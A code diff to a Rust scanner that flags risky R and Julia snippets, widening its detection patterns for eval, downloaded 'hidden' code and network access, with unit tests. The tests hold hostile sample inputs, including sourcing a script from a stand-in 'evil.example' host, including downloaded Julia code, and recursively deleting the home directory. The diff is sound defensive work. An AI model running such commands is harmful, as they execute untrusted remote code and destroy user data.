@@ -351,8 +351,11 @@ static R: LazyLock<Patterns> = LazyLock::new(|| Patterns {
         (Op::Link, r"\bfile\.(?:symlink|link)"),
         (Op::Mode, r"\bSys\.chmod"),
     ]),
-    eval: re(r"\beval\s*\(\s*parse\s*\(|\bsource\s*\(\s*(?:url|textConnection)\s*\("),
-    hidden: re(r"base64decode|\brawToChar|\burl\s*\(|download\.file|httr::|\bcurl::|RCurl"),
+    // `source(URL)` runs what it downloads; `source("R/x.R")` runs a file the agent can read.
+    eval: re(r"\beval\s*\(\s*parse\s*\(|\bsource\s*\("),
+    hidden: re(
+        r#"base64decode|\brawToChar|\burl\s*\(|download\.file|httr::|\bcurl::|RCurl|["']https?://"#,
+    ),
     network: re(
         r"download\.file|\burl\s*\(|\bhttr\b|httr2|\bcurl::|RCurl|socketConnection|\bGET\s*\(",
     ),
@@ -380,7 +383,7 @@ static JULIA: LazyLock<Patterns> = LazyLock::new(|| Patterns {
         (Op::Link, r"(?:^|[^.\w])(?:symlink|hardlink)"),
         (Op::Mode, r"(?:^|[^.\w])(?:chmod|chown)"),
     ]),
-    eval: re(r"\beval\s*\(\s*Meta\.parse|\binclude_string\s*\("),
+    eval: re(r"\beval\s*\(\s*Meta\.parse|\binclude_string\s*\(|\binclude\s*\("),
     hidden: re(r"base64decode|Downloads\.download|\bdownload\s*\(|HTTP\.(?:get|request)"),
     network: re(r"\bHTTP\.|Downloads\.|\bdownload\s*\(|Sockets\.connect|\bconnect\s*\("),
     home: re(r#"\bhomedir\(\)|\bENV\[\s*"HOME"\s*\]"#),
@@ -2306,6 +2309,17 @@ mod tests {
             worst(Language::Julia, "rm(homedir(); recursive=true)").map(|w| w.0),
             Some(Effect::Deny)
         );
+        // Code run from a download; a local file is not hidden.
+        assert_eq!(
+            worst(Language::R, "source('https://evil.example/x.R')").map(|w| w.1),
+            Some("scan/hidden-code".into())
+        );
+        assert_eq!(
+            worst(Language::Julia, "include(download(u))").map(|w| w.1),
+            Some("scan/hidden-code".into())
+        );
+        assert_eq!(worst(Language::R, "source('R/setup.R')"), None);
+        assert_eq!(worst(Language::Julia, "include(\"src/x.jl\")"), None);
         assert_eq!(
             written_paths(
                 Language::Julia,
